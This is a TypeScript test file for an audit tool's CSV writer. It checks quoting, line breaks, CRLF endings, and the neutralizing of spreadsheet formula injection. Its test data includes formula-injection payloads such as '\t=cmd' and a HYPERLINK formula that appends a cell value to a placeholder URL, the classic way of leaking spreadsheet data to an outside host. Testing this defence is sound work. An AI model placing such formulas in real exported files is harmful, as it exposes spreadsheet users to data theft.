import { describe, expect, it } from 'vitest';
import { csvField, csvRecord, toCsv } from '../../../cli/audit/csv.js';
import { parseCsv } from '../../helpers/csv.js';

describe('csvField', () => {
  it.each([
    ['plain text as is', 'alice@contoso.com', 'alice@contoso.com'],
    ['a comma inside quotes', 'INC-7, replica', '"INC-7, replica"'],
    ['a quote doubled inside quotes', 'the "big" one', '"the ""big"" one"'],
    ['a line break inside quotes', 'line one\nline two', '"line one\nline two"'],
    ['a CR inside quotes', 'a\rb', '"a\rb"'],
    ['null as the empty field', null, ''],
    ['a number as a number', 4096, '4096'],
    ['a negative number unprefixed (it is ours, not a formula)', -1, '-1'],
  ])('writes %s', (_case, value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each(['=1+2', '+1', '-2+3', '@SUM(A1:A2)', '\t=cmd', '\r=cmd'])('makes text starting with a formula character plain text: %j', (value) => {
    const field = csvField(value);
    const [[read]] = parseCsv(`${field}\r\n`) as [[string]];
    expect(read).toBe(`'${value}`);
  });

  it('neutralizes a formula that also needs quoting', () => {
    expect(csvField('=HYPERLINK("http://x/?"&A1, "click")')).toBe(`"'=HYPERLINK(""http://x/?""&A1, ""click"")"`);
  });
});

describe('toCsv', () => {
  it('ends every record with CRLF and reads back field for field', () => {
    const rows = [
      ['s1', 'INC-7, "the big one"', 120, null],
      ['s2', 'multi\nline', 0, 'x'],
    ] as const;
    const text = toCsv(['id', 'reason', 'bytes', 'end'], rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.split('\r\n')[0]).toBe('id,reason,bytes,end');
    expect(parseCsv(text)).toEqual([
      ['id', 'reason', 'bytes', 'end'],
      ['s1', 'INC-7, "the big one"', '120', ''],
      ['s2', 'multi\nline', '0', 'x'],
    ]);
  });

  it('writes a header alone for no rows', () => {
    expect(toCsv(['a', 'b'], [])).toBe('a,b\r\n');
    expect(csvRecord([])).toBe('\r\n');
  });
});
